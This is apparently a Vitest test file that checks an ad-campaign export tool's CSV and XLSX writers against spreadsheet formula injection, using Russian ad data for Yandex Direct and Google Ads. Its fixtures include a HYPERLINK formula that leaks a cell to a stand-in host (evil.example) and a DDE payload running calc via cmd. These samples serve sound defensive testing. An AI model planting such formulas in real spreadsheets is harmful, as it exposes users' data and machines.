import { parseString } from '@fast-csv/parse';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { CampaignData } from '../../../contract/campaigns.js';
import { applyChanges, type ChangeSet } from '../../../server/engines/export/changes.js';
import { exportGoogleCsv } from '../../../server/engines/export/google.js';
import { exportYandexCsv, exportYandexXlsx } from '../../../server/engines/export/yandex.js';
import { csvCell, neutraliseFormula, stripFormulaGuard } from '../../../server/lib/csv.js';
import { importCampaignFiles } from '../../../server/projects/importers/index.js';
import { buildTemplateCsv, campaignDataToTemplateCsv } from '../../../server/projects/importers/template.js';
import { ad, campaign, group, kw } from '../../fixtures/analysis/builders.js';

/** Cells exactly as a spreadsheet reads them from the file (RFC 4180 unquoting, nothing else). */
function spreadsheetCells(text: string, delimiter: string): Promise<string[]> {
  return new Promise((resolve, reject) => {
    const cells: string[] = [];
    parseString(text.replace(/^\uFEFF/, ''), { delimiter, headers: false, ignoreEmpty: true })
      .on('data', (row: string[]) => cells.push(...row))
      .on('error', reject)
      .on('end', () => resolve(cells));
  });
}

/**
 * What Excel, LibreOffice and Google Sheets could run: any `=`, `@`, tab or CR start; a `+`/`-` start with
 * something a function call, DDE or workbook link needs (`(`, `|`, `&`, `%`, `'`, or `[…]…!`) — a lone sign,
 * a number and signed plain words (Direct's `-слово -фраза из слов`) are not formulas that do anything.
 */
const runsAsFormula = (cell: string) =>
  /^[=@\t\r]/.test(cell) || (/^[-+]/.test(cell) && (/[^\p{L}\p{N} !+\-"[\].,]/u.test(cell) || /\[[^\]]*\][^!]*!/.test(cell)));

const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Скидка")', '+7 (495) 123-45-67 звоните', '-50% на шубы', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+2'];

/** A test account whose names and texts start with every character a spreadsheet takes for a formula. */
function hostileAccount(platform: CampaignData['platform']): CampaignData {
  const [formula, phone, discount, at] = hostile;
  return {
    platform,
    searchQueries: [],
    campaigns: [
      campaign(formula!, [
        group(at!, [kw('+в наличии шуба', { externalId: '11' }), kw('шуба норковая', { externalId: '12', negativeWords: platform === 'google_ads' ? [] : ['дешево'] })], [
          ad(discount!, {
            externalId: '21',
            // An RSA Editor takes needs a third headline.
            headlines: platform === 'google_ads' ? [discount!, phone!, 'Шубы в наличии'] : [discount!, phone!],
            // The Direct file has one text column.
            texts: platform === 'google_ads' ? ['=1+2 подарок', '-скидка до конца недели'] : ['=1+2 подарок'],
            finalUrl: 'https://example.ru/shuby',
            callouts: ['@доставка', '+подарок'],
            sitelinks: [{ title: '=Каталог', description: '-10% сегодня', url: 'https://example.ru/catalog' }],
          }),
        ], { externalId: '31', negativeKeywords: ['прокат'] }),
      ], { externalId: '41', negativeKeywords: ['бесплатно'] }),
    ],
  };
}

const changes: ChangeSet = { campaignNegatives: [{ campaignIndex: 0, add: ['скачать'] }], groupNegatives: [], keywordUpdates: [], keywordRemovals: [], adUpdates: [], campaignIndexes: [0] };

const shape = (data: CampaignData) =>
  data.campaigns.map((c) => ({
    name: c.name,
    negatives: [...c.negativeKeywords].sort(),
    groups: c.groups.map((g) => ({
      name: g.name,
      negatives: [...g.negativeKeywords].sort(),
      keywords: g.keywords.map((k) => `${k.phrase}|${k.negativeWords.join(',')}`),
      ads: g.ads.map((a) => ({ headlines: a.headlines.filter(Boolean), texts: a.texts, callouts: a.callouts, sitelinks: a.sitelinks.map((link) => link.title) })),
    })),
  }));

describe('CSV formula injection (OWASP): one cell writer for every CSV', () => {
  it('prefixes a quote to cells a spreadsheet would run, quotes them, and leaves lone signs and numbers alone', () => {
    expect(neutraliseFormula('=1+2')).toBe("'=1+2");
    // Direct's minus-words are text to a spreadsheet and must reach Direct as they are.
    expect(neutraliseFormula('-слово')).toBe('-слово');
    expect(neutraliseFormula('-своими руками -вакансии')).toBe('-своими руками -вакансии');
    expect(neutraliseFormula('-!в -[купить розы]')).toBe('-!в -[купить розы]');
    expect(neutraliseFormula('+в наличии')).toBe('+в наличии');
    // …but a sign followed by a function call, a DDE link or a workbook link is not.
    expect(neutraliseFormula("-cmd|' /C calc'!A0")).toBe("'-cmd|' /C calc'!A0");
    expect(neutraliseFormula('+HYPERLINK("http://evil.example")')).toBe('\'+HYPERLINK("http://evil.example")');
    expect(neutraliseFormula('-[книга]лист!A1')).toBe("'-[книга]лист!A1");
    expect(neutraliseFormula('-50% на шубы')).toBe("'-50% на шубы");
    expect(neutraliseFormula('-')).toBe('-');
    expect(neutraliseFormula('+')).toBe('+');
    expect(neutraliseFormula('-12,5')).toBe('-12,5');
    expect(neutraliseFormula('шуба -норковая')).toBe('шуба -норковая');
    expect(csvCell('=HYPERLINK("x")', '\t')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('@a;b', ';')).toBe('"\'@a;b"');
    expect(stripFormulaGuard("'-слово")).toBe('-слово');
    expect(stripFormulaGuard("'обычный текст")).toBe("'обычный текст");
  });

  it.each([
    ['Yandex Direct CSV', 'yandex_direct', (data: CampaignData) => exportYandexCsv(data, changes), 'direct-changes.csv'],
    ['Google Ads Editor CSV', 'google_ads', (data: CampaignData) => exportGoogleCsv(data, changes), 'google-ads-editor-changes.csv'],
    ['import template with the account', 'yandex_direct', (data: CampaignData) => campaignDataToTemplateCsv(applyChanges(data, changes)), 'template.csv'],
  ] as const)('%s: no cell runs as a formula, and the file re-imports to the same campaigns', async (_name, platform, write, fileName) => {
    const data = hostileAccount(platform);
    const text = await write(data);
    const delimiter = fileName === 'template.csv' ? ';' : '\t';
    const cells = await spreadsheetCells(text, delimiter);
    for (const value of hostile) expect(cells.some((cell) => cell === `'${value}` || cell.includes(value.slice(1)))).toBe(true);
    expect(cells.filter(runsAsFormula)).toEqual([]);

    const imported = await importCampaignFiles([{ name: fileName, bytes: new TextEncoder().encode(text) }], { platform });
    expect(imported.problems.filter((problem) => problem.severity === 'error')).toEqual([]);
    const back = shape(imported.data!);
    const expected = shape(applyChanges(data, changes));
    if (platform === 'google_ads') {
      // Editor's file has no callouts or sitelinks: compare what it carries.
      for (const side of [back, expected]) for (const g of side[0]!.groups) for (const a of g.ads) Object.assign(a, { callouts: [], sitelinks: [] });
    }
    expect(back).toEqual(expected);
    expect(back[0]!.name).toBe(hostile[0]);
  });

  it('writes the template download with no formula-like cell', async () => {
    expect((await spreadsheetCells(buildTemplateCsv(), ';')).filter(runsAsFormula)).toEqual([]);
  });

  it('writes the Direct XLSX as typed text cells: nothing to neutralise, nothing a spreadsheet runs', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exportYandexXlsx(hostileAccount('yandex_direct'), changes)) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
    expect(values.every((value) => typeof value === 'string')).toBe(true);
    expect(values).toContain(hostile[0]);
    expect(values).toContain('-бесплатно -скачать');
  });
});
